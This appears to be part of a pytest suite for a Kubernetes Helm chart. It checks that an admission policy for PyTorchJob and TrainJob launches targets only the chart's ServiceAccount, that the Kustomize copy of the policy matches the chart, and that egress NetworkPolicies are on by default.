@pytest.mark.parametrize("kind", ["PyTorchJob", "TrainJob"])
def test_other_users_are_not_this_policy_s_business(admission, chart_launcher, kind: str):
    """A platform engineer's or another ServiceAccount's job, however privileged, is left to RBAC and other policies."""
    policy = admission(*ON[kind])
    privileged = as_admitted(hostile(chart_launcher(*ON[kind]), "host-path"))
    for user in ("alice@example.com", f"system:serviceaccount:{NAMESPACE}:training-team", "system:serviceaccount:other-ns:pipeline-runner"):
        review = policy.review("CREATE", privileged, username=user)
        assert not review.matched and review.allowed, user
    assert not policy.review("CREATE", privileged).allowed


def test_the_manifests_component_is_the_chart_s_policy_for_the_manifests_values(build_kustomization, validate_k8s, render_chart, tmp_path):
    """manifests/components/pytorchjob-admission-policy is the chart's policy rendered with what the manifests use
    (namespace kubeflow, kubeflow/pipeline-runner, Kubeflow's MinIO Secret, the Pushgateway beside them, no signing):
    one source, checked here, so that the two cannot drift apart."""
    overlay = write_overlay(
        tmp_path,
        "apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\n"
        "resources:\n  - ../manifests\ncomponents:\n  - ../manifests/components/pytorchjob\n"
        "  - ../manifests/components/pytorchjob-admission-policy\n",
    )
    docs = build_kustomization(overlay)
    validate_k8s(docs)
    chart = render_chart("--namespace", "kubeflow", "--set", "pytorchJob.enabled=true", "--set", "pytorchJob.admissionPolicy.enabled=true",
                         "--set", "signing.enabled=false")
    for kind in ("ValidatingAdmissionPolicy", "ValidatingAdmissionPolicyBinding"):
        ours, theirs = only(docs, kind), only(chart, kind)
        assert (ours["metadata"]["name"], ours["spec"]) == (theirs["metadata"]["name"], theirs["spec"]), f"{kind}: regenerate it (its header says how)"
    (subject,) = only(docs, "RoleBinding", "fedpipe-pytorchjob-launcher")["subjects"]
    expression = only(docs, "ValidatingAdmissionPolicy")["spec"]["matchConditions"][0]["expression"]
    assert f'"system:serviceaccount:{subject["namespace"]}:{subject["name"]}"' in expression, "the Role's subject is the policy's user"


# --- the egress policy: on by default ---------------------------------------------------------------------------


def test_the_egress_policy_is_on_by_default_and_the_install_says_what_it_needs(helm: str, render_chart):
    proc = run_tool([helm, "template", RELEASE, str(CHART), "--namespace", NAMESPACE], check=False)
    assert proc.returncode != 0, "on by default, and nothing to let the tasks reach the API server with"
    message = re.sub(r"\s+", " ", proc.stderr)
    for words in ("networkPolicy.apiServer.cidrs is required", "--set networkPolicy.apiServer.cidrs=",
                  "kubectl get endpointslices -n default -l kubernetes.io/service-name=kubernetes", "--set networkPolicy.enabled=false"):
        assert words in message, message
    docs = render_chart(*CIDRS)
    training = only(docs, "NetworkPolicy", "-training-egress")
    assert [peer["ipBlock"]["cidr"] for rule in training["spec"]["egress"] for peer in rule.get("to", []) if "ipBlock" in peer] == ["172.18.0.2/32"]
    assert not [d for d in render_chart("--set", "networkPolicy.enabled=false") if d["kind"] == "NetworkPolicy"]
    with_jobs = render_chart(*CIDRS, "--set", "pytorchJob.enabled=true")
    for suffix in ("-training-egress", "-pytorchjob-launcher-egress", "-distributed-phase-egress"):
        only(with_jobs, "NetworkPolicy", suffix)
